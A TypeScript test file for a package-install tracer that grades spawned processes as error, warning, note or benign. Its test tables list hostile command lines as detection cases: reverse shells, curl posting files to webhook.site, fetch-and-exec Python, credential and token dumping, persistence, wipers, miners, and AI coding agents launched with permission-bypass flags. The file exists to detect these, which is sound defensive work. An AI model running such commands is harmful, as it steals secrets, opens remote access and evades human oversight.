import { copyFileSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { pathToFileURL } from 'node:url'
import { afterEach, describe, expect, it } from 'vitest'
import type { Severity } from '../../../src/types.js'
import {
  classifySpawn, compileProgramRules, identifyProgram, loadProgramRules, type NotableProgramsFile,
} from '../../../src/trace/program-rules.js'

const rules = loadProgramRules()

const NPM_CLI = '/usr/lib/node_modules/npm/bin/npm-cli.js'
const GYP_MAIN = '/usr/lib/node_modules/npm/node_modules/node-gyp/gyp/gyp_main.py'

const expectSpawn = (argv: string[], severity: Severity | null, entryId?: string): void => {
  const result = classifySpawn(argv, rules)
  if (severity === null) {
    expect(result).toBeNull()
    return
  }
  expect(result).toMatchObject({ rule: 'process-spawn', severity, ...(entryId === undefined ? {} : { entryId }) })
  expect(result?.description.length).toBeGreaterThan(10)
}

describe('errors: what real payloads ran', () => {
  it.each<[string[], string]>([
    [['trufflehog', 'filesystem', '/home/alice', '--json'], 'secret-scanner'],
    [['claude', '--dangerously-skip-permissions', '-p', 'find secrets'], 'claude'],
    [['claude', '--permission-mode', 'bypassPermissions', 'x'], 'claude'],
    [['claude', '-p', 'list files'], 'claude'],
    [['node', '/usr/lib/node_modules/@anthropic-ai/claude-code/cli.js', '--dangerously-skip-permissions'], 'claude'],
    [['/usr/bin/node', '/usr/local/bin/claude', '-p', 'x'], 'claude'],
    [['gemini', '--yolo', '-p', 'x'], 'gemini'],
    [['gemini', '-y'], 'gemini'],
    [['q', 'chat', '--trust-all-tools', '--no-interactive', 'x'], 'amazon-q'],
    [['codex', 'exec', 'x'], 'codex'],
    [['codex', '--dangerously-bypass-approvals-and-sandbox', 'x'], 'codex'],
    [['cursor-agent', '-p', '--force', 'x'], 'cursor-agent'],
    [['copilot', '--allow-all-tools', '-p', 'x'], 'copilot-cli'],
    [['npm', 'publish'], 'npm'],
    [['npm', '--loglevel', 'silent', 'publish', '--access', 'public'], 'npm'],
    [['node', NPM_CLI, 'publish'], 'npm'],
    [['npm', 'whoami'], 'npm'],
    [['npm', 'token', 'list'], 'npm'],
    [['npm', 'config', 'get', '//registry.example.test/:_authToken'], 'npm'],
    [['npm', 'config', 'set', 'script-shell', '/tmp/x.sh'], 'npm'],
    [['pnpm', 'publish'], 'pnpm'],
    [['yarn', 'npm', 'publish'], 'yarn'],
    [['yarn', 'config', 'get', 'npmAuthToken'], 'yarn'],
    [['gh', 'auth', 'token'], 'gh'],
    [['gh', 'repo', 'create', 's1ngularity-repository', '--public'], 'gh'],
    [['git', 'credential', 'fill'], 'git'],
    [['git-credential-store', 'get'], 'git-credential-helper'],
    [['curl', '-d', '@/tmp/data', 'https://webhook.site/x'], 'curl'],
    [['curl', '-sd@/tmp/data', 'https://x'], 'curl'],
    [['curl', '--data-binary', '@f', 'https://x'], 'curl'],
    [['curl', '-X', 'POST', 'https://x'], 'curl'],
    [['curl', '-F', 'file=@/tmp/x', 'https://x'], 'curl'],
    [['wget', '--post-file=/tmp/x', 'https://x'], 'wget'],
    [['nc', '-e', '/bin/sh', '10.0.0.1', '4444'], 'netcat'],
    [['busybox', 'nc', '-e', '/bin/sh', '10.0.0.1', '4444'], 'netcat'],
    [['socat', 'TCP:10.0.0.1:4444', 'EXEC:/bin/sh'], 'socat'],
    [['ssh', '-R', '9000:localhost:22', 'x@y'], 'ssh'],
    [['python3', '-c', 'import urllib.request,os;exec(urllib.request.urlopen("http://x").read())'], 'python'],
    [['python3', '-c', 'import socket,subprocess,os;s=socket.socket()'], 'python'],
    [['python3', '-u', '-c', 'import base64;exec(base64.b64decode("eA=="))'], 'python'],
    [['perl', '-e', 'use Socket;$i="10.0.0.1"'], 'perl'],
    [['ruby', '-rsocket', '-e', 'f=TCPSocket.open("10.0.0.1",4444)'], 'ruby'],
    [['bun', 'bun_environment.js'], 'bun'],
    [['sudo', '-n', 'true'], 'privilege'],
    [['su', '-c', 'id'], 'privilege'],
    [['docker', 'run', '--rm', '--privileged', '-v', '/:/host', 'ubuntu', 'bash'], 'container'],
    [['docker', 'run', '-v', '/var/run/docker.sock:/var/run/docker.sock', 'x'], 'container'],
    [['systemd-run', '--user', '/tmp/x'], 'systemd-run'],
    [['systemctl', '--user', 'enable', '--now', 'updater.service'], 'systemctl'],
    [['systemctl', '--user', 'daemon-reload'], 'systemctl'],
    [['loginctl', 'enable-linger', 'alice'], 'loginctl'],
    [['launchctl', 'load', '/Users/alice/Library/LaunchAgents/x.plist'], 'launchctl'],
    [['crontab', '/tmp/cron.txt'], 'crontab'],
    [['crontab', '-'], 'crontab'],
    [['at', 'now', '+', '1', 'minute'], 'at'],
    [['iptables', '-F'], 'firewall'],
    [['nft', 'flush', 'ruleset'], 'firewall'],
    [['shutdown', '-h', 'now'], 'shutdown'],
    [['shred', '-uvz', '/home/alice/x'], 'wiper'],
    [['xmrig', '-o', 'pool'], 'miner'],
    [['security', 'find-generic-password', '-s', 'gh:github.com', '-w'], 'keychain'],
    [['secret-tool', 'lookup', 'service', 'gh:github.com'], 'secret-tool'],
    [['gpg', '--armor', '--export-secret-keys'], 'gpg'],
    [['aws', 'configure', 'export-credentials'], 'aws-cli'],
    [['aws', 'secretsmanager', 'get-secret-value', '--secret-id', 'x'], 'aws-cli'],
    [['gcloud', 'auth', 'print-access-token'], 'gcloud'],
    [['az', 'account', 'get-access-token'], 'azure-cli'],
    [['kubectl', 'config', 'view', '--raw'], 'kubectl'],
    [['kubectl', 'get', 'secrets', '-A'], 'kubectl'],
    [['docker-credential-desktop', 'get'], 'docker-credential-helper'],
    [['sh', '-c', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1'], 'shell'],
  ])('%j', (argv, entryId) => {
    expectSpawn(argv, 'error', entryId)
  })
})

describe('warnings: notable, not damning', () => {
  it.each<[string[], string]>([
    [['curl', '-fsSL', 'https://example.test/install.sh'], 'curl'],
    [['wget', '-q', 'https://example.test/x.tgz'], 'wget'],
    [['nc', '-z', 'host', '80'], 'netcat'],
    [['python3', '/tmp/ld.py'], 'python'],
    [['python3.12', 'setup.py'], 'python'],
    [['python3', '-c', 'print(1)'], 'python'],
    [['pip', 'install', 'requests'], 'pip'],
    [['perl', 'Configure'], 'perl'],
    [['bun', 'setup.mjs'], 'bun'],
    [['deno', 'run', '-A', 'x.ts'], 'deno'],
    [['claude'], 'claude'],
    [['gh', 'api', 'user'], 'gh'],
    [['git', 'push', 'origin', 'main'], 'git'],
    [['git', 'config', '--global', 'core.hooksPath', '/tmp/h'], 'git'],
    [['npm', 'install', '-g', 'something'], 'npm'],
    [['npm', 'exec', '--yes', 'some-tool'], 'npm'],
    [['npx', '-y', 'some-tool'], 'npx'],
    [['node', '/usr/lib/node_modules/npm/bin/npx-cli.js', 'some-tool'], 'npx'],
    [['pnpm', 'dlx', 'some-tool'], 'pnpm'],
    [['docker', 'ps'], 'container'],
    [['systemctl', '--user', 'is-active', 'x'], 'systemctl'],
    [['crontab', '-l'], 'crontab'],
    [['scp', 'f', 'host:'], 'ssh'],
    [['nohup', 'node', 'x.js'], 'detach'],
    [['setsid', '/tmp/processor.sh'], 'detach'],
    [['bash', '-i'], 'shell'],
    [['sh'], 'shell'],
    [['bash', '-s', '--', 'arg'], 'shell'],
    [['openssl', 's_client', '-connect', 'x:443'], 'openssl'],
  ])('%j', (argv, entryId) => {
    expectSpawn(argv, 'warning', entryId)
  })
})

describe('notes: recognised benign shapes of notable programs', () => {
  it.each<[string[], string]>([
    [['python3', GYP_MAIN, 'binding.gyp', '-f', 'make', '-I', 'build/config.gypi', '--depth=.'], 'python'],
    [['/usr/bin/python3', '/home/alice/app/node_modules/node-gyp/gyp/gyp_main.py', 'binding.gyp'], 'python'],
    [['python3', '-c', "import sys; sys.stdout.buffer.write(sys.executable.encode('utf-8'));"], 'python'],
    [['python3', '-c', 'import sys; print("%s.%s.%s" % sys.version_info[:3]);'], 'python'],
    [['python3', 'gyp-mac-tool', 'filter-libtool', 'libtool', '-static', '-o', 'x.a'], 'python'],
    [['/usr/bin/python3', './gyp-flock-tool', 'flock', 'x.lock'], 'python'],
    [['git', 'config', 'core.hooksPath', '.husky/_'], 'git'],
    [['git', 'rev-parse', '--git-dir'], 'git'],
    [['git', 'clone', '--depth=1', 'https://github.com/x/y.git'], 'git'],
    [['/usr/lib/git-core/git-remote-https', 'origin', 'https://github.com/x/y.git'], 'git'],
    [['bun', '--version'], 'bun'],
    [['claude', '--version'], 'claude'],
    [['base64', '-d'], 'base64'],
  ])('%j', (argv, entryId) => {
    expectSpawn(argv, 'note', entryId)
  })
})

describe('benign installs: no finding', () => {
  it.each<[string, string[]]>([
    ['esbuild install.js', ['node', 'install.js']],
    ['a postinstall script', ['/usr/bin/node', 'scripts/postinstall.js']],
    ['node -e', ['node', '-e', "require('./check.js')"]],
    ['binding.gyp command expansion', ['node', '-p', "require('node-addon-api').include_dir"]],
    ['the hook shell', ['/bin/sh', '-c', 'node install.js']],
    ['npm running node-gyp', ['sh', '-c', 'node-gyp rebuild']],
    ['a shell script', ['sh', './build.sh']],
    ['node-gyp', ['node', '/usr/lib/node_modules/npm/node_modules/node-gyp/bin/node-gyp.js', 'rebuild']],
    ['make', ['make', 'BUILDTYPE=Release', '-C', 'build']],
    ['cc', ['cc', '-o', 'x.o', '-c', 'x.c']],
    ['gcc', ['gcc', '-shared', '-o', 'x.node']],
    ['g++', ['g++', '-std=gnu++17', '-c', 'x.cc']],
    ['clang++', ['clang++', '-c', 'x.cc']],
    ['the compiler proper', ['/usr/lib/gcc/x86_64-linux-gnu/12/cc1plus', '-quiet']],
    ['the linker', ['ld', '-o', 'x']],
    ['flock from make', ['flock', 'x.lock', 'g++']],
    ["esbuild's npm fallback", ['npm', 'install', '--loglevel=error', '--prefer-offline', '--no-audit', '--progress=false', 'esbuild-linux-64@0.15.18']],
    ["esbuild's npm fallback via node", ['node', NPM_CLI, 'install', '--loglevel=error', '--prefer-offline', '--no-audit', '--progress=false', '@esbuild/linux-x64@0.25.12']],
    ['npm config get registry', ['npm', 'config', 'get', 'registry']],
    ['npm rebuild', ['npm', 'rebuild']],
    ['npm run build', ['npm', 'run', 'build']],
    ['prebuild-install', ['node', '/app/node_modules/.bin/prebuild-install', '-r', 'napi']],
    ['node-pre-gyp', ['node-pre-gyp', 'install', '--fallback-to-build']],
    ["esbuild's binary", ['/app/node_modules/@esbuild/linux-x64/bin/esbuild', '--version']],
    ['sharp probing libvips', ['pkg-config', '--modversion', 'vips-cpp']],
    ['detect-libc', ['ldd', '--version']],
    ['uname', ['uname', '-m']],
    ['husky', ['husky']],
    ['patch-package', ['patch-package']],
    ['prisma generate', ['prisma', 'generate']],
    ['rm -rf build', ['rm', '-rf', 'build']],
    ['tar', ['tar', 'xzf', 'x.tgz']],
    ['node with a preload', ['node', '--require', '/app/.pnp.cjs', 'install.js']],
    ['an empty argv', []],
  ])('%s', (_what, argv) => {
    expectSpawn(argv, null)
  })
})

describe('identifyProgram', () => {
  it.each<[string[], string]>([
    [['node', NPM_CLI, 'install'], 'npm'],
    [['/usr/bin/npm', 'ci'], 'npm'],
    [['node', '/usr/local/bin/npm', 'config', 'get'], 'npm'],
    [['node', '-r', './x.js', NPM_CLI], 'npm'],
    [['node', '--', NPM_CLI], 'npm'],
    [['node', '/usr/lib/node_modules/npm/bin/npx-cli.js', 'x'], 'npx'],
    [['node', '/app/.yarn/releases/yarn-4.1.0.cjs', 'install'], 'yarn'],
    [['/usr/bin/git', 'config'], 'git'],
    [['/usr/lib/git-core/git-remote-https', 'origin'], 'git'],
    [['python3.12', 'x.py'], 'python3'],
    [['python', 'x.py'], 'python'],
    [['busybox', 'wget', 'x'], 'wget'],
    [['node', 'install.js'], 'node'],
    [['node', '-e', 'x', NPM_CLI], 'node'],
    [['/usr/bin/make'], 'make'],
    [['/usr/local/bin/claude', '-p'], 'claude'],
  ])('%j is %s', (argv, name) => {
    expect(identifyProgram(argv, rules)).toBe(name)
  })
})

describe('the shipped catalogue', () => {
  const file = JSON.parse(readFileSync(new URL('../../../policies/trace/notable-programs.json', import.meta.url), 'utf8')) as NotableProgramsFile

  it('compiles with unique ids and program names', () => {
    expect(rules.entries).toHaveLength(file.programs.length)
    const names = file.programs.flatMap((p) => p.programs)
    expect(new Set(names).size).toBe(names.length)
  })

  it('never flags the programs a native build runs', () => {
    for (const name of ['node', 'sh', 'make', 'cc', 'gcc', 'g++', 'c++', 'clang', 'clang++', 'node-gyp', 'prebuild-install', 'node-pre-gyp', 'esbuild']) {
      expect(classifySpawn([name, 'x'], rules), name).toBeNull()
    }
  })
})

describe('loadProgramRules', () => {
  let dir: string | undefined
  afterEach(() => {
    if (dir !== undefined) rmSync(dir, { recursive: true, force: true })
    dir = undefined
  })

  const loadWith = (data: unknown): void => {
    dir = mkdtempSync(join(tmpdir(), 'si-programs-'))
    copyFileSync(new URL('../../../policies/trace/notable-programs.schema.json', import.meta.url), join(dir, 'notable-programs.schema.json'))
    writeFileSync(join(dir, 'notable-programs.json'), JSON.stringify(data))
    loadProgramRules(pathToFileURL(`${dir}/`))
  }
  const entry = { id: 'x', programs: ['x'], severity: 'warning', description: 'ran the x tool' }

  it('accepts a minimal valid file', () => {
    expect(() => { loadWith({ programs: [entry] }) }).not.toThrow()
  })

  it.each<[string, unknown, RegExp]>([
    ['an unknown severity', { programs: [{ ...entry, severity: 'fatal' }] }, /programs\.0\.severity: must be one of/],
    ['a case without a condition', { programs: [{ ...entry, cases: [{ severity: 'error', description: 'something bad' }] }] }, /programs\.0\.cases\.0/],
    ['a program name with a slash', { programs: [{ ...entry, programs: ['/usr/bin/x'] }] }, /programs\.0\.programs\.0/],
    ['a bad regular expression', { programs: [{ ...entry, cases: [{ args: ['('], severity: 'error', description: 'something bad' }] }] }, /x\.cases\.0: bad regular expression/],
    ['a program listed twice', { programs: [entry, { ...entry, id: 'y' }] }, /"x" is listed twice/],
    ['a duplicate id', { programs: [entry, { ...entry, programs: ['z'] }] }, /duplicate id "x"/],
  ])('refuses %s', (_what, data, message) => {
    expect(() => { loadWith(data) }).toThrow(message)
  })

  it('tries cases in order: the first match wins', () => {
    const compiled = compileProgramRules({
      programs: [{
        id: 't', programs: ['t'], severity: 'warning', description: 'ran the t tool',
        cases: [
          { args: ['^--bad$'], severity: 'error', description: 'ran the t tool badly' },
          { first: '^safe$', severity: 'none', description: 'ran the t tool safely' },
        ],
      }],
    })
    expect(classifySpawn(['t', 'safe', '--bad'], compiled)?.severity).toBe('error')
    expect(classifySpawn(['t', 'safe'], compiled)).toBeNull()
    expect(classifySpawn(['t', 'other'], compiled)?.severity).toBe('warning')
  })
})
